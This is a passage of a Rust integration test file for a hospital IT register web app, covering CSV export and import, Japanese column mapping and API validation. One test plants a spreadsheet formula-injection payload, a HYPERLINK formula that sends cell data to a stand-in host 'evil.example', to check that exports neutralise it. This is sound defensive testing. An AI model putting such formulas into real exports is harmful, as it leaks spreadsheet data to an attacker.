        .as_array()
        .and_then(|a| a.iter().find(|f| f["cve"] == cve.as_str()).cloned())
        .unwrap_or_default();
    assert_eq!(decided["decision"]["action"], "patched");
    assert_eq!(decided["decision"]["patched_on"], "2026-04-30");
}

/// Posts a user list to the accounts review's import with the given form fields.
async fn accounts_import(app: &App, token: &str, fields: &[(&str, &str)], csv: &str) -> Res {
    let boundary = "acct";
    let mut body = String::new();
    for (k, v) in fields {
        body.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n"
        ));
    }
    body.push_str(&format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"emr.csv\"\r\n\r\n{csv}\r\n--{boundary}--\r\n"));
    let req = Request::post("/api/v1/accounts-review/import")
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        );
    app.send(&mut Browser::default(), req, Body::from(body))
        .await
}

/// A device named like a spreadsheet formula reaches the CSV export as text (OWASP's rule: cells
/// starting with `= + - @`, tab or carriage return get a leading `'`), and importing that export
/// gives back exactly what was stored.
#[tokio::test]
async fn exported_cells_never_run_as_formulas_and_come_back_unchanged() {
    use serde_json::json;
    let app = App::new().await;
    let mut admin = app.setup().await;
    let t = app.token(&mut admin).await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
    for (name, notes) in [(evil, "-5"), ("@SUM(A1)", "+1")] {
        let r = app
            .api(
                &t,
                "POST",
                "/api/v1/registers/devices",
                Some(json!({"kind": "server", "name": name, "location": notes})),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    }
    let csv = app
        .api(&t, "GET", "/api/v1/registers/devices/export.csv", None)
        .await;
    let rows = csv.body.lines().skip(1).collect::<Vec<_>>().join("\n");
    for line in csv.body.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {cell} in {line}"
            );
        }
    }
    assert!(rows.contains("'=HYPERLINK") && rows.contains("'@SUM") && rows.contains("'-5"));
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/registers/devices/import",
        &[("devices.csv", csv.body.as_bytes())],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(
        (r.json()["added"].as_u64(), r.json()["updated"].as_u64()),
        (Some(0), Some(0)),
        "the round trip changes nothing"
    );
    let devices = app.api(&t, "GET", "/api/v1/registers/devices", None).await;
    assert!(
        devices
            .json()
            .as_array()
            .is_some_and(|a| a.iter().any(|d| d["name"] == evil && d["location"] == "-5"))
    );
}

/// The element with this id up to the end of its table.
fn part(body: &str, id: &str) -> String {
    let start = body
        .find(&format!("id=\"{id}\""))
        .unwrap_or_else(|| panic!("no #{id} in {body}"));
    let rest = &body[start..];
    rest[..rest.find("</table>").unwrap_or(rest.len())].to_string()
}

#[tokio::test]
async fn hospitals_own_spreadsheets_are_mapped_once_previewed_and_taken() {
    let app = App::new().await;
    let mut admin = app.setup().await;
    let org = app.store.org_directory().await.expect("orgs")[0].id;
    let csrf = app
        .get(&mut admin, "/registers/devices")
        .await
        .hidden("csrf");
    // A ledger as a hospital keeps it: a title row, its own headers, its own ways of writing values.
    let own = "機器管理台帳(令和7年度),,,,,,,\n\
               機器名,区分,メーカー名,型番,ファームウェア,外部接続,保守期限,備考\n\
               VPN-01,ルーター,Fortinet,FortiGate 60F,６.０.４,有,令和8年3月31日,本館\n\
               受付PC-3,PC,NEC,Mate,,無,2026/3/31,\n";
    let r = app
        .post_multipart(
            &mut admin,
            "/registers/devices/import",
            &[("csrf", &csrf)],
            &[("file", "台帳.csv", own.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let preview = part(&r.body, "import-preview");
    assert!(
        preview.contains("ネットワーク機器")
            && preview.contains("6.0.4")
            && preview.contains("2026-03-31"),
        "the first rows as they will be stored: {preview}"
    );
    assert!(
        r.body.contains("<option value=\"機器名\" selected>")
            && r.body.contains("<option value=\"保守期限\" selected>"),
        "the columns are recognised"
    );
    assert!(
        app.store.devices(org).await.expect("devices").is_empty(),
        "nothing is taken yet"
    );

    // The user points 保守期限 at the wrong column and confirms: the faults are shown, nothing taken.
    let data = html_unescape(&r.hidden("data"));
    let base = [
        ("csrf", csrf.as_str()),
        ("file", "台帳.csv"),
        ("offset", "0"),
        ("data", data.as_str()),
        ("map_name", "機器名"),
        ("map_kind", "区分"),
        ("map_vendor", "メーカー名"),
        ("map_product", "型番"),
        ("map_version", "ファームウェア"),
        ("map_internet_facing", "外部接続"),
    ];
    let mut wrong = base.to_vec();
    wrong.extend([("map_support_end", "備考"), ("action", "confirm")]);
    let r = app
        .post(&mut admin, "/registers/devices/import/review", &wrong)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        part(&r.body, "import-faults").contains("H (サポート終了日)"),
        "{}",
        r.body
    );
    assert!(app.store.devices(org).await.expect("devices").is_empty());

    // Set right and confirmed: every row is taken, values read as people wrote them.
    let mut right = base.to_vec();
    right.extend([("map_support_end", "保守期限"), ("action", "confirm")]);
    let r = app
        .post(&mut admin, "/registers/devices/import/review", &right)
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let devices = app.store.devices(org).await.expect("devices");
    let vpn = devices
        .iter()
        .find(|d| d.device.name == "VPN-01")
        .expect("VPN-01");
    assert_eq!(vpn.device.version, "6.0.4");
    assert!(vpn.device.internet_facing);
    assert_eq!(
        vpn.device.support_end.map(|d| d.to_string()).as_deref(),
        Some("2026-03-31")
    );

    // The mapping is remembered: next month's file of the same shape goes straight in.
    let next = own.replace("６.０.４", "6.0.5");
    let r = app
        .post_multipart(
            &mut admin,
            "/registers/devices/import",
            &[("csrf", &csrf)],
            &[("file", "台帳.csv", next.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert_eq!(r.location(), "/registers/devices?imported=0-1");

    // A backup register and a contact chart of the hospital's own shape, the same way.
    let backups = "対象システム,方式,世代数,オフライン保管,保管先\n電子カルテ,LTO,７,○,別棟金庫\n";
    let r = app
        .post_multipart(
            &mut admin,
            "/registers/backups/import",
            &[("csrf", &csrf)],
            &[("file", "backup.csv", backups.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(
        part(&r.body, "import-preview").contains("はい"),
        "○ reads as yes"
    );
    let data = html_unescape(&r.hidden("data"));
    assert!(
        r.body.contains("<option value=\"世代数\" selected>"),
        "{}",
        r.body
    );
    let form = [
        ("csrf", csrf.as_str()),
        ("file", "backup.csv"),
        ("offset", "0"),
        ("data", data.as_str()),
        ("map_name", "対象システム"),
        ("map_method", "方式"),
        ("map_generations", "世代数"),
        ("map_offline", "オフライン保管"),
        ("map_location", "保管先"),
        ("action", "confirm"),
    ];
    let r = app
        .post(&mut admin, "/registers/backups/import/review", &form)
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let rows = app.store.ledger_rows(org, "backups").await.expect("rows");
    assert_eq!(
        (
            rows[0].row["generations"].as_str(),
            rows[0].row["offline"].as_str()
        ),
        ("7", "true")
    );

    let chart = "役割,所属,担当者,電話番号,夜間連絡先\n保守窓口,株式会社カルテ保守,佐藤,03-1234-5678,090-1234-5678\n";
    let csrf_prep = app.get(&mut admin, "/preparedness").await.hidden("csrf");
    let r = app
        .post_multipart(
            &mut admin,
            "/preparedness/contacts/import",
            &[("csrf", &csrf_prep)],
            &[("file", "連絡先.csv", chart.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let data = html_unescape(&r.hidden("data"));
    let form = [
        ("csrf", csrf_prep.as_str()),
        ("file", "連絡先.csv"),
        ("offset", "0"),
        ("data", data.as_str()),
        ("map_role", "役割"),
        ("map_organisation", "所属"),
        ("map_name", "担当者"),
        ("map_phone", "電話番号"),
        ("map_phone_24h", "夜間連絡先"),
        ("action", "confirm"),
    ];
    let r = app
        .post(&mut admin, "/preparedness/contacts/import/review", &form)
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let page = app.get(&mut admin, "/preparedness").await;
    assert!(page.body.contains("株式会社カルテ保守") && page.body.contains("090-1234-5678"));
    assert!(
        page.body
            .contains("<a href=\"tel:09012345678\">090-1234-5678</a>"),
        "a number that can be dialled is a link to dial it"
    );

    // The API takes a mapping with the file, and says what is wrong with a bad one.
    let token = app.token(&mut admin).await;
    let r = api_multipart_with(
        &app,
        &token,
        "/api/v1/registers/restore_tests/import",
        &[(
            "mapping",
            "{\"name\": \"試験\", \"tested_on\": \"日\", \"result\": \"判定\"}",
        )],
        &[(
            "t.csv",
            "試験,日,判定\n月次復旧,令和7年5月1日,成功\n".as_bytes(),
        )],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let r = api_multipart_with(
        &app,
        &token,
        "/api/v1/registers/restore_tests/import",
        &[("mapping", "[1, 2]")],
        &[("t.csv", "試験,日,判定\n".as_bytes())],
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["fields"][0]["field"], "mapping");
}
